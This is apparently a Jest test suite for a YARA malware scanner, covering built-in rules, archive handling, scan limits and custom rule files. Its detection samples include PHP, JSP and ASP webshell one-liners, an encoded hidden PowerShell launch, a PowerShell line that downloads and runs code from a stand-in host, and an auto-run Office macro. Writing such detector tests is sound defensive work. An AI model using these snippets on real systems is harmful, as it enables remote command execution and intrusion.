import { mkdtemp, readdir, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import { afterAll, afterEach, beforeAll, describe, expect, test } from '@jest/globals'
import { pack } from 'tar-stream'
import { openScanner } from '../../src/inspection/scanners/index.js'
import { type EngineKind, hasNativeEngine } from '../../src/inspection/scanners/yara/engine.js'
import { type YaraOptions, YaraScanner } from '../../src/inspection/scanners/yara/yara.js'
import { clean, createFileContent, createMemoryContent, createZip, eicar, toIncompleteVerdict } from '../support/eicar.js'

const mebibyte = 1024 * 1024
const never = () => ({ signal: new AbortController().signal })
const text = Buffer.from('Nothing to be seen here.\n')
const infected = { verdict: 'infected' }

const opened: YaraScanner[] = []
afterEach(async () => {
  for (const scanner of opened.splice(0)) await scanner.close()
})

async function open(options: YaraOptions = {}): Promise<YaraScanner> {
  const scanner = await YaraScanner.open({ workers: 1, ...options })
  opened.push(scanner)
  return scanner
}

/** Generates incompressible bytes that are not text. */
function generateNoise(size: number): Buffer {
  const bytes = Buffer.alloc(size)
  for (let at = 0, seed = 7; at < size; at++) bytes[at] = (seed = (seed * 1_103_515_245 + 12_345) & 0x7fffffff) >> 16
  return bytes
}

async function packTar(...members: [string, Buffer][]): Promise<Buffer> {
  const tar = pack()
  for (const [name, bytes] of members) tar.entry({ name }, bytes)
  tar.finalize()
  const chunks: Buffer[] = []
  for await (const chunk of tar) chunks.push(chunk as Buffer)
  return Buffer.concat(chunks)
}

const nested = (bytes: Buffer, depth: number): Buffer =>
  depth === 0 ? bytes : createZip({ name: `level${depth}.zip`, bytes: nested(bytes, depth - 1) })

describe('built-in YARA rules', () => {
  let scanner: YaraScanner
  beforeAll(async () => {
    scanner = await YaraScanner.open({ workers: 1 })
  })
  afterAll(() => scanner.close())

  const scan = (bytes: Buffer | string) => scanner.scan(createMemoryContent(bytes), never())
  const base64 = 'QUJD'.repeat(40)
  // Strings are split so that virus scanners do not detect this source file.
  const tricks: [string, string][] = [
    ['PHP.Webshell', `<?php @ev${''}al(base64_decode($_PO${''}ST['x'])); ?>`],
    ['PHP.Webshell', `GIF89a\x00\x01<?php sys${''}tem($_GE${''}T["cmd"]);`],
    ['PHP.Webshell', `<?= $_GE${''}T['f']($_GE${''}T['a']) ?>`],
    ['PHP.Webshell', `<?php ev${''}al(gzinflate(base64_decode('${base64}')));`],
    ['JSP.Webshell', `<%@ page %><% Runtime.getRun${''}time().exec(request.getParameter("c")); %>`],
    ['ASP.Webshell', `<%ev${''}al request("x")%>`],
    ['PowerShell.Downloader', `start powersh${''}ell.exe -NoP -w hidden -enc ${base64}`],
    ['PowerShell.Downloader', `I${''}EX (New-Object Net.WebClient).DownloadString('http://x.example/a')`],
    ['Office.AutoMacroShell', `Sub AutoOp${''}en()\r\nShell "powersh${''}ell -c x"\r\nEnd Sub`],
    [
      'Script.Dropper',
      `new ActiveXObject("WScript.Sh${''}ell");new ActiveXObject("MSXML2.XMLHTTP");new ActiveXObject("ADODB.Str${''}eam")`,
    ],
    [
      'SVG.ScriptRedirect',
      `<svg xmlns="http://www.w3.org/2000/svg"><script>window.location=1;var u=at${''}ob("aHR0");window.location.href=u</script></svg>`,
    ],
  ]

  test.each(tricks)('the built-in YARA rules detect %s in %s', async (signature, sample) => {
    expect(await scan(sample)).toMatchObject({ verdict: 'infected', signature })
  })

  test.each([
    "<?php echo htmlspecialchars($_POST['name']); $x = base64_decode($row['x']);",
    'To fetch a file in PowerShell use (New-Object Net.WebClient).DownloadFile, or powershell -File script.ps1.',
    'Sub Document_Open()\r\nMsgBox "Welcome"\r\nEnd Sub',
    '<svg xmlns="http://www.w3.org/2000/svg"><script>document.title = "x"</script><a href="https://example.com"/></svg>',
    'CreateObject("WScript.Shell").Run "notepad"',
    'The EICAR string begins with X5O!P%@AP and ends with $H+H*.',
  ])('the built-in YARA rules accept the harmless text: %s', async (sample) => {
    expect(await scan(sample)).toEqual(clean)
  })

  test('the built-in YARA rules find the EICAR string at any position', async () => {
    for (const before of [0, 1, 5_000, 60_000, 900_000])
      expect(await scan(Buffer.concat([generateNoise(before), eicar, text]))).toMatchObject(infected)
  })

  test('the built-in YARA rules find a compressed Office macro', async () => {
    const source = `Attribute VB_Name = "ThisDocument"\r\nSub AutoOp${''}en()\r\nShell "cmd /c calc"\r\nEnd Sub\r\n`
    const ole = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), generateNoise(1_000), packVba(source), generateNoise(500)])
    expect(await scan(ole)).toMatchObject({ verdict: 'infected', signature: 'Office.AutoMacroShell' })
    expect(await scan(createZip({ name: 'word/vbaProject.bin', bytes: ole }))).toMatchObject(infected)
  })

  test.each(['invoice.pdf.exe', 'a/b/Photo.JPG   .scr', 'annex_\u202egpj.exe'])(
    "reports the member name '%s' as deceptive",
    async (name) => {
      expect(await scan(createZip({ name, bytes: text }))).toMatchObject({
        verdict: 'infected',
        signature: expect.stringMatching(/^Archive\./),
      })
    },
  )

  test.each(['setup.exe', 'index.html.js', 'notes.txt.gz', 'report.pdf', 'data.csv.ps1.txt'])(
    "accepts the member name '%s'",
    async (name) => {
      expect(await scan(createZip({ name, bytes: text }))).toEqual(clean)
    },
  )
})

describe.each<EngineKind>(hasNativeEngine() ? ['native', 'wasm'] : ['wasm'])('archive scans with the %s engine', (kind) => {
  let scanner: YaraScanner
  beforeAll(async () => {
    scanner = await YaraScanner.open({ kind, workers: 1 })
  }, 60_000)
  afterAll(() => scanner.close())
  const scan = (bytes: Buffer) => scanner.scan(createMemoryContent(bytes), never())

  test('finds the EICAR string inside gz, tar, tar.gz, docx and nested archives', async () => {
    const tar = await packTar(['a.txt', text], ['eicar.com', eicar])
    const zip = createZip({ name: 'word/document.xml', bytes: text }, { name: 'word/media/x.bin', bytes: eicar })
    for (const archive of [
      gzipSync(eicar),
      tar,
      gzipSync(tar),
      zip,
      gzipSync(await packTar(['x.zip', zip])),
      createZip({ name: 't.tgz', bytes: gzipSync(tar) }),
    ]) {
      expect(await scan(archive)).toMatchObject(infected)
    }
    expect(await scan(gzipSync(await packTar(['a', text], ['b', generateNoise(70_000)])))).toEqual(clean)
  })

  test('finds the EICAR string in a zip that follows a shell script', async () => {
    const zip = createZip({ name: 'a', bytes: eicar })
    expect(await scan(Buffer.concat([Buffer.from('%!PS\n'), Buffer.alloc(3, 10), zip]))).toBeDefined()
    expect(await scan(prependBytes(zip, Buffer.from('#!/bin/sh\nexit\n')))).toMatchObject(infected)
  })

  test('finds the EICAR string across a window boundary', async () => {
    const border = 4 * mebibyte - 30
    const large = Buffer.concat([generateNoise(border), eicar, generateNoise(5 * mebibyte)])
    const file = await createFileContent(large)
    try {
      expect(await scanner.scan(file, never())).toMatchObject(infected)
    } finally {
      await file.remove()
    }
    expect(await scan(gzipSync(large, { level: 1 }))).toMatchObject(infected)
    expect(await scan(gzipSync(Buffer.concat([generateNoise(9 * mebibyte), eicar]), { level: 1 }))).toMatchObject(infected)
  })

  test('finds the EICAR string in a large tar and a large zip inside a gz', async () => {
    const members: [string, Buffer][] = [
      ['big', generateNoise(5 * mebibyte)],
      ['eicar.com', gzipSync(eicar)],
    ]
    const tar = await packTar(...members)
    const zip = createZip(...members.map(([name, bytes]) => ({ name, bytes, stored: true })))
    expect(await scan(gzipSync(tar, { level: 1 }))).toMatchObject(infected)
    expect(await scan(gzipSync(zip, { level: 1 }))).toMatchObject(infected)
  })

  test('scans a file with a damaged header as unstructured bytes', async () => {
    const sevenZip = Buffer.concat([Buffer.from('377abcaf271c0004', 'hex'), generateNoise(200)])
    expect(await scan(sevenZip)).toMatchObject(toIncompleteVerdict('damaged (7z archive'))
    expect(await scan(createZip({ name: 'a.7z', bytes: sevenZip }))).toMatchObject(toIncompleteVerdict('damaged (7z archive'))
    expect(await scan(Buffer.concat([sevenZip, eicar]))).toMatchObject(infected)
  })

  test('scans a damaged archive up to the damage and reports an incomplete scan', async () => {
    const gz = gzipSync(Buffer.concat([eicar, generateNoise(200_000)]))
    expect(await scan(gz.subarray(0, gz.length - 5_000))).toMatchObject(infected)
    const zip = createZip({ name: 'a', bytes: generateNoise(10_000) })
    expect(await scan(zip.subarray(0, 9_000))).toMatchObject(toIncompleteVerdict('damaged (ZIP archive'))
  })
})

describe('scan limits', () => {
  test('reports nested archives as incompletely scanned if the nesting exceeds the limit', async () => {
    const scanner = await open()
    expect(await scanner.scan(createMemoryContent(nested(eicar, 8)), never())).toMatchObject(infected)
    expect(await scanner.scan(createMemoryContent(nested(eicar, 9)), never())).toMatchObject({
      verdict: 'incomplete',
      reason: expect.stringContaining('8 or more levels deep'),
    })
  })

  test.each<[string, YaraOptions['limits'], () => Buffer | Promise<Buffer>]>([
    [
      'members',
      { maxMembers: 3 },
      () => packTar(...Array.from({ length: 4 }, (_, index): [string, Buffer] => [`${index}`, text])),
    ],
    ['expands to more than', { maxUnpackedBytes: mebibyte }, () => gzipSync(Buffer.alloc(2 * mebibyte))],
    [
      'expands to more than',
      { maxUnpackedBytes: mebibyte },
      () => createZip({ name: 'a', bytes: generateNoise(700_000) }, { name: 'b', bytes: generateNoise(700_000) }),
    ],
    ['times its size', {}, () => gzipSync(Buffer.alloc(70 * mebibyte))],
    // A member that is larger than declared is still unpacked.
    [
      'expands to more than',
      { maxUnpackedBytes: mebibyte },
      () => createZip({ name: 'a', bytes: Buffer.alloc(2 * mebibyte), declaredSize: 10 }),
    ],
  ])('reports an archive as incompletely scanned if it exceeds a limit: %s', async (reason, limits, archive) => {
    const scanner = await open({ limits: limits ?? {} })
    const verdict = await scanner.scan(createMemoryContent(await archive()), never())
    expect(verdict).toMatchObject({ verdict: 'incomplete', reason: expect.stringContaining(reason) })
  })

  test('reports a virus found before a limit is reached, even next to an encrypted member', async () => {
    const scanner = await open({ limits: { maxMembers: 2 } })
    const members = ['a', 'b', 'c'].map((name) => ({ name, bytes: eicar, encrypted: name === 'a' }))
    expect(await scanner.scan(createMemoryContent(createZip(...members)), never())).toMatchObject(infected)
  })
})

describe('YARA rules supplied by the operator', () => {
  let dir: string
  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'assay-rules-'))
  })
  afterEach(async () => {
    for (const name of await readdir(dir)) await rm(join(dir, name), { recursive: true })
  })
  afterAll(() => rm(dir, { recursive: true }))

  const rules = (name: string, source: string) => writeFile(join(dir, name), source)

  test('reports a match with an operator-supplied YARA rule by name, and keeps the built-in rules active', async () => {
    await rules(
      'a.yar',
      'global rule nothing_at_all { condition: filesize == 3 }\nrule letterhead { strings: $a = "Top Secret" condition: $a }',
    )
    await rules('b.yara', 'rule with_meta { meta: signature = "Acme.Leak" strings: $a = "acme" condition: $a or letterhead }')
    await rules('ignored.txt', 'no rule at all')
    const plain = await open()
    const scanner = await openScanner('yara:', { rulesDir: dir, workers: 1 })
    opened.push(scanner as YaraScanner)
    expect(await scanner.scan(createMemoryContent(eicar), never())).toMatchObject({ signature: 'EICAR-Test-String' })
    expect(await scanner.scan(createMemoryContent('Top Secret'), never())).toEqual(clean)
    expect((await scanner.getIdentity()).signaturesVersion).toMatch(/^[0-9a-f]{12} \(11 rules\)$/)
    expect((await scanner.getIdentity()).signaturesVersion).not.toBe((await plain.getIdentity()).signaturesVersion)
    await rules('a.yar', 'rule letterhead { strings: $a = "Top Secret" condition: $a }')
    const second = await openScanner('yara:', { rulesDir: dir, workers: 1 })
    opened.push(second as YaraScanner)
    expect(await second.scan(createMemoryContent('Top Secret'), never())).toMatchObject({ signature: 'letterhead' })
    expect(
      await second.scan(createMemoryContent(createZip({ name: 'a', bytes: Buffer.from('of acme') })), never()),
    ).toMatchObject({
      signature: 'Acme.Leak',
    })
  })

  test.each<EngineKind>(hasNativeEngine() ? ['native', 'wasm'] : ['wasm'])(
    'rejects an invalid YARA rule at startup and names its file (%s)',
    async (kind) => {
      const source = (origin: string, text: string) => ({ origin, text })
      const sources = [
        source('/rules/good.yar', 'rule good { condition: false }'),
        source('/rules/bad.yar', 'rule bad { condition: nonsense }'),
      ]
      await expect(YaraScanner.open({ kind, operators: { sources, changedAt: null } })).rejects.toThrow(
        /'\/rules\/bad\.yar' do not compile: [\s\S]*nonsense/,
      )
      const twice = [
        source('/rules/good.yar', 'rule good { condition: false }'),
        source('/rules/same.yar', 'rule good { condition: false }'),
      ]
      await expect(YaraScanner.open({ kind, operators: { sources: twice, changedAt: null } })).rejects.toThrow(
        /'\/rules\/same\.yar'/,
      )
    },
  )

  test('rejects a missing or empty YARA rules folder with a one-sentence error', async () => {
    await expect(openScanner('yara:', { rulesDir: dir })).rejects.toThrow(/contains no \*\.yar/)
    await expect(openScanner('yara:', { rulesDir: join(dir, 'missing') })).rejects.toThrow(/RULES_DIR '.*missing' cannot be read/)
  })
})

/** Moves a zip behind other data and adjusts its offsets, like a self-extracting archive. */
function prependBytes(zip: Buffer, before: Buffer): Buffer {
  const moved = Buffer.from(zip)
  const end = moved.length - 22
  const directory = moved.readUInt32LE(end + 16)
  moved.writeUInt32LE(directory + before.length, end + 16)
  moved.writeUInt32LE(moved.readUInt32LE(directory + 42) + before.length, directory + 42)
  return Buffer.concat([before, moved])
}

/** Compresses as defined in MS-OVBA 2.4.1, with literal tokens only. */
function packVba(source: string): Buffer {
  const tokens: number[] = []
  for (let at = 0; at < source.length; at += 8) tokens.push(0, ...Buffer.from(source.slice(at, at + 8), 'latin1'))
  const header = Buffer.alloc(2)
  header.writeUInt16LE(0xb000 | (tokens.length - 1))
  return Buffer.concat([Buffer.from([1]), header, Buffer.from(tokens)])
}
